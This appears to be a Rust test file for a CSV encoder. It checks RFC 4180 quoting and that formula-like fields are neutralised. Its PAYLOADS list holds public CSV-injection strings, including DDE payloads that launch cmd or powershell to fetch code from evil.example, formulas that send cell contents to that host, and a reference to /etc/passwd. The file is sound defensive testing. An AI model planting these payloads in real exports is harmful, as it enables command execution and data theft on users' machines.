//! Formulas, and what RFC 4180 quotes.

use crate::sink::{Unencodable, csv};

use super::readers;

/// RFC 4180, section 2: rules 5 to 7.
#[test]
fn quotes_as_the_standard_says() {
    for (text, field) in [
        ("", ""),
        ("aaa", "aaa"),
        ("a b", "a b"),
        ("b\r\nbb", "\"b\r\nbb\""),
        ("b\"bb", "\"b\"\"bb\""),
        ("a,b", "\"a,b\""),
        ("\"", "\"\"\"\""),
        (" a", "\" a\""),
        ("a ", "\"a \""),
        ("a;b", "\"a;b\""),
        ("\u{feff}a", "\"\u{feff}a\""),
        ("Größe", "Größe"),
        ("a=b", "a=b"),
        ("a-b", "a-b"),
    ] {
        assert_eq!(csv::field(text).to_string(), field, "{text:?}");
        assert_eq!(csv::field(text).to_cow(), field, "{text:?}");
    }
}

/// asvs: V1.2.10
#[test]
fn a_formula_gets_a_quote_in_front() {
    for (text, field) in [
        ("=1+1", "\"'=1+1\""),
        ("+1", "\"'+1\""),
        ("-1", "\"'-1\""),
        ("@A1", "\"'@A1\""),
        ("\ta", "\"'\ta\""),
        ("\ra", "\"'\ra\""),
        ("\na", "\"'\na\""),
        ("\0a", "\"'\0a\""),
        ("  =1", "\"'  =1\""),
        (" \ta", "\"' \ta\""),
        ("\u{200b}=1", "\"'\u{200b}=1\""),
        ("\u{3000}=1", "\"'\u{3000}=1\""),
        ("\"=1", "\"'\"\"=1\""),
        ("＝1", "\"'＝1\""),
        ("＋1", "\"'＋1\""),
        ("－1", "\"'－1\""),
        ("＠A1", "\"'＠A1\""),
        ("\u{2212}1", "\"'\u{2212}1\""),
        ("a;=1", "\"a;'=1\""),
        ("a\t =1", "\"a\t '=1\""),
        ("a\n=1", "\"a\n'=1\""),
        ("a;\"=1", "\"a;\"\"'=1\""),
        ("\t=1", "\"'\t'=1\""),
        ("'=1", "'=1"),
    ] {
        assert_eq!(csv::field(text).to_string(), field, "{text:?}");
        readers::check_csv(&[text]);
    }
}

/// asvs: V1.2.10, for payloads of public lists of CSV injections, alone and beside one another.
#[test]
fn no_payload_is_calculated() {
    for payload in PAYLOADS {
        assert_ne!(csv::field(payload).to_string(), *payload);
        readers::check_csv(&[payload]);
        for other in PAYLOADS {
            let (after_semicolon, on_a_line) = (format!("x;{payload}"), format!("x\n{other}"));
            readers::check_csv(&["x", payload, other, "", &after_semicolon, &on_a_line]);
        }
    }
}

const PAYLOADS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=cmd|'/c calc.exe'!A1",
    "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(cmd|'/c calc'!A0)",
    "=cmd|'/C powershell IEX(wget http://evil.example/shell.exe)'!A0",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0\n=1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Click here\")",
    "=WEBSERVICE(CONCATENATE(\"http://evil.example/\",A1))",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
    "=IMPORTDATA(CONCATENATE(\"http://evil.example/\",A1))",
    "=IMAGE(\"https://evil.example/images/srpr/logo3w.png\")",
    "='file:///etc/passwd'#$passwd.A1",
    "\"=HYPERLINK(\"\"http://evil.example\"\")\"",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "    =cmd|' /C calc'!A0",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "x\",=1+1,\"",
    "x\";=1+1;\"",
    "x\"\t=1+1\t\"",
    "x\"\r\n=1+1\r\n\"",
    ";=1+1",
    "1;\";\"=1+1",
    "a\n\n =1+1",
];

#[test]
fn a_record_is_read_as_one() {
    for (fields, record) in [
        (&["a", "b"][..], "a,b\r\n"),
        (&[""], "\"\"\r\n"),
        (&["", ""], ",\r\n"),
        (&["a,b", "=1", "c\"d"], "\"a,b\",\"'=1\",\"c\"\"d\"\r\n"),
    ] {
        assert_eq!(csv::record(fields).unwrap().to_string(), record);
        readers::check_csv(fields);
    }
    assert_eq!(csv::record(&[]).map(drop), Err(Unencodable::Empty));
}
